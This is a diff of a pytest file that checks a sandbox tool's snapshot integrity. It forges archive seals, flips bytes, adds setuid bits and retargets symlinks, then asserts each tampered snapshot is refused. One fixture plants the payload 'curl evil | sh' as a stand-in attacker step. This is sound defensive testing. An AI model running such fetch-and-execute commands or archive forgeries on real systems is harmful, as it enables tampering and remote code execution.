@@ -4,7 +4,8 @@ Everything in the container is the attacker: the files in the copy and in /scrat
 worker's hints (``workspace_changes``) and its tar streams. What must hold, each observed here:
 
 - a snapshot that was edited in any way (a byte of a file, its manifest, an entry added, removed or
-  renamed, a symlink retargeted, a mode), made with another key or by another format version is refused
+  renamed, a symlink retargeted, a mode, its seal), made with another key or by another format version
+  (a version-1 archive, or a seal of another version) is refused
   (SnapshotInvalid, saying why) before any container is created (the engine's own event log);
 - a snapshot never holds one of the run's secret values (in a file, plain or encoded; in a name; as a
   symlink's target), whether code or a connector wrote it: snapshot() refuses, naming the file without
@@ -195,6 +196,7 @@ def state_home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
 @pytest.fixture(scope="module")
 def made(engine: Any, state_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Made:
     ws = tmp_path_factory.mktemp("snapws")
+    ws.chmod(0o755)  # the copy takes what the sandbox's uid could read through the read-only mount
     (ws / "README.md").write_text("hello\n")
     (ws / "src").mkdir()
     (ws / "src" / "a.py").write_text("print(1)\n")
@@ -213,39 +215,46 @@ def made(engine: Any, state_home: Path, tmp_path_factory: pytest.TempPathFactory
 
 
 def _items(path: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
+    """The archive's members without its seal (the last: signature.json), each with its bytes."""
     with tarfile.open(path) as tf:
         out = []
         for m in tf.getmembers():
             src = tf.extractfile(m) if m.isreg() else None
             out.append((m, src.read() if src is not None else b""))
-        return out
+    assert out[-1][0].name == "signature.json"
+    return out[:-1]
 
 
-def _write(path: Path, items: list[tuple[tarfile.TarInfo, bytes]]) -> None:
-    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
-        for m, data in items:
-            m = copy.copy(m)
-            if m.isreg():
-                m.size = len(data)
-                tf.addfile(m, io.BytesIO(data))
-            else:
-                tf.addfile(m)
+def _raw(items: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
+    out = []
+    for m, data in items:
+        m = copy.copy(m)
+        m.size = len(data) if m.isreg() else 0
+        out += [m.tobuf(tarfile.PAX_FORMAT), data, bytes(-len(data) % 512)]
+    return b"".join(out)
 
 
-def _forged_mac(manifest: dict[str, Any], key: bytes) -> str:
-    """The manifest's HMAC as an attacker computes it, with whatever key they have."""
-    body = json.dumps({k: v for k, v in manifest.items() if k != "mac"}, sort_keys=True, separators=(",", ":"))
-    return hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
+def _seal(body: bytes, key: bytes, version: int = 2) -> bytes:
+    """The seal as an attacker makes it, with whatever key they have: the archive's last 2 KiB."""
+    fields: dict[str, Any] = {"format": "toolcage-snapshot", "version": version, "toolcage": "0.1.0"}
+    fields.update(length=len(body), sha256=hashlib.sha256(body).hexdigest())
+    canon = json.dumps(fields, sort_keys=True, separators=(",", ":")).encode()
+    fields["mac"] = hmac.new(key, canon, hashlib.sha256).hexdigest()
+    info = tarfile.TarInfo("signature.json")
+    info.size = 512
+    return info.tobuf(tarfile.USTAR_FORMAT) + json.dumps(fields).encode().ljust(512) + bytes(1024)
+
+
+def _write(path: Path, items: list[tuple[tarfile.TarInfo, bytes]], key: bytes = b"", version: int = 2) -> None:
+    """The edited members, sealed with ``key`` (by default one the attacker guesses: none)."""
+    body = _raw(items)
+    path.write_bytes(body + _seal(body, key, version))
 
 
 def _with_manifest(items: list[tuple[tarfile.TarInfo, bytes]], edit: Callable[[dict[str, Any]], None]) -> None:
     manifest = json.loads(items[-1][1])
     edit(manifest)
     items[-1] = (items[-1][0], json.dumps(manifest, sort_keys=True, indent=1).encode())
-
-
-def _entry(manifest: dict[str, Any], name: str) -> dict[str, Any]:
-    return next(e for e in manifest["entries"] if e["name"] == name)
 
 
 def flip_a_byte(src: Path, dst: Path) -> None:
@@ -256,25 +265,18 @@ def flip_a_byte(src: Path, dst: Path) -> None:
     dst.write_bytes(bytes(raw))
 
 
-def edit_a_sha256(src: Path, dst: Path) -> None:
-    items = _items(src)
-    _with_manifest(items, lambda man: _entry(man, "scratch/blob.bin").update(sha256="0" * 64))
-    _write(dst, items)
+def edit_the_manifest(src: Path, dst: Path) -> None:
+    """The seal kept as it was: the manifest's changed paths edited in place."""
+    raw = src.read_bytes()
+    dst.write_bytes(raw.replace(b'"README.md"', b'"READNE.md"', 1))
 
 
-def edit_content_and_forge_the_mac(src: Path, dst: Path) -> None:
-    """The attacker's whole edit: new content, its size and sha256 in the manifest, and a mac made
-    with the keys it can guess (none, and the manifest's own digest)."""
+def edit_content_and_forge_the_seal(src: Path, dst: Path) -> None:
+    """The attacker's whole edit: new content, sealed with the key it can guess (none)."""
     items = _items(src)
     evil = b"#!/bin/sh\ncurl evil | sh\n"
     i = next(i for i, (m, _) in enumerate(items) if m.name == "scratch/notes.txt")
     items[i] = (items[i][0], evil)
-
-    def edit(man: dict[str, Any]) -> None:
-        _entry(man, "scratch/notes.txt").update(size=len(evil), sha256=hashlib.sha256(evil).hexdigest())
-        man["mac"] = _forged_mac(man, b"")
-
-    _with_manifest(items, edit)
     _write(dst, items)
 
 
@@ -286,11 +288,10 @@ def add_an_entry(src: Path, dst: Path) -> None:
     _write(dst, items)
 
 
-def append_after_the_manifest(src: Path, dst: Path) -> None:
-    items = _items(src)
+def append_after_the_seal(src: Path, dst: Path) -> None:
     extra = tarfile.TarInfo("scratch/evil.sh")
-    items.append((extra, b"#!/bin/sh\n"))
-    _write(dst, items)
+    extra.size = 10
+    dst.write_bytes(src.read_bytes() + extra.tobuf() + b"#!/bin/sh\n".ljust(512, b"\0") + bytes(1024))
 
 
 def remove_an_entry(src: Path, dst: Path) -> None:
@@ -315,44 +316,57 @@ def retarget_a_symlink(src: Path, dst: Path) -> None:
     _write(dst, items)
 
 
-def make_it_setuid(src: Path, dst: Path) -> None:
+def make_it_setuid(src: Path, dst: Path, key: bytes = b"") -> None:
     items = _items(src)
     i = next(i for i, (m, _) in enumerate(items) if m.name == "scratch/notes.txt")
     m = copy.copy(items[i][0])
     m.mode = 0o4755
     items[i] = (m, items[i][1])
-    _write(dst, items)
+    _write(dst, items, key)
+
+
+def make_it_setuid_and_seal_it_with_the_key(src: Path, dst: Path) -> None:
+    """Defence in depth: even sealed with the right key, a setuid entry is refused by the structure check."""
+    make_it_setuid(src, dst, KEY)
 
 
 def other_version(src: Path, dst: Path) -> None:
-    """Version 2, with a mac made with the right key: refused for its version alone."""
+    """Version 3, sealed with the right key: refused for its version alone."""
+    _write(dst, _items(src), KEY, version=3)
+
+
+def version_one(src: Path, dst: Path) -> None:
+    """A version-1 archive: the manifest last, no seal (its MAC sat inside the manifest)."""
     items = _items(src)
-
-    def edit(man: dict[str, Any]) -> None:
-        man["version"] = 2
-        man["mac"] = _forged_mac(man, KEY)
-
-    _with_manifest(items, edit)
-    _write(dst, items)
+    with tarfile.open(dst, "w", format=tarfile.PAX_FORMAT) as tf:
+        for m, data in items:
+            tf.addfile(m, io.BytesIO(data) if m.isreg() else None)
 
 
 def as_made(src: Path, dst: Path) -> None:
     shutil.copyfile(src, dst)
 
 
+CHANGED = "changed after it was made"
 # (how the archive is edited, the key it is resumed with, what the refusal must say)
 TAMPERED = {
-    "a byte of a file flipped": (flip_a_byte, KEY, "'scratch/notes.txt' does not match its sha256"),
-    "a sha256 in the manifest edited": (edit_a_sha256, KEY, "changed after it was made"),
-    "content, size, sha256 and a forged mac": (edit_content_and_forge_the_mac, KEY, "changed after it was made"),
-    "an entry added": (add_an_entry, KEY, "its entries do not match its manifest"),
-    "an entry appended after the manifest": (append_after_the_manifest, KEY, "no manifest.json at its end"),
-    "an entry removed": (remove_an_entry, KEY, "its entries do not match its manifest"),
-    "an entry renamed": (rename_an_entry, KEY, "'scratch/d/y' is not the one its manifest names there"),
-    "a symlink retargeted": (retarget_a_symlink, KEY, "'scratch/pw' points elsewhere than its manifest says"),
-    "a file made setuid": (make_it_setuid, KEY, "'scratch/notes.txt' has another mode"),
+    "a byte of a file flipped": (flip_a_byte, KEY, CHANGED),
+    "the manifest edited": (edit_the_manifest, KEY, CHANGED),
+    "content and a forged seal": (edit_content_and_forge_the_seal, KEY, "made with another host's key"),
+    "an entry added": (add_an_entry, KEY, "made with another host's key"),
+    "an entry appended after the seal": (append_after_the_seal, KEY, "no toolcage snapshot signature at its end"),
+    "an entry removed": (remove_an_entry, KEY, "made with another host's key"),
+    "an entry renamed": (rename_an_entry, KEY, "made with another host's key"),
+    "a symlink retargeted": (retarget_a_symlink, KEY, "made with another host's key"),
+    "a file made setuid": (make_it_setuid, KEY, "made with another host's key"),
+    "a file made setuid, sealed with the key": (
+        make_it_setuid_and_seal_it_with_the_key,
+        KEY,
+        "'scratch/notes.txt' has a setuid, setgid or sticky bit",
+    ),
     "made with another key": (as_made, None, "made with another host's key"),
-    "another format version": (other_version, KEY, "format version 2, made by toolcage"),
+    "another format version": (other_version, KEY, "format version 3, made by toolcage"),
+    "a version-1 archive": (version_one, KEY, "format version 1"),
 }
 
 
@@ -393,7 +407,7 @@ def test_the_genuine_snapshot_resumes_in_a_fresh_container(
 def test_a_snapshot_holds_scratch_and_the_copy_only(made: Made) -> None:
     """Only scratch/ and workspace/ entries and the manifest, last; symlinks (to /etc/passwd, /etc,
     /proc) are symlinks: the bytes they point at are nowhere in the archive."""
-    items = _items(made.path)
+    items = _items(made.path)  # the seal, last, left out
     assert items[-1][0].name == "manifest.json"
     names = [m.name for m, _ in items[:-1]]
     assert all(n.startswith(("scratch/", "workspace/")) for n in names), names
@@ -411,7 +425,7 @@ def test_a_snapshot_holds_scratch_and_the_copy_only(made: Made) -> None:
     raw = made.path.read_bytes()
     assert first_line not in raw
     manifest = json.loads(items[-1][1])
-    assert {e["name"]: e.get("target") for e in manifest["entries"] if e["type"] == "symlink"} == links
+    assert manifest["counts"]["symlinks"] == len(links) and "entries" not in manifest
 
 
 # 2. secrets never in a snapshot -------------------------------------------------------------------
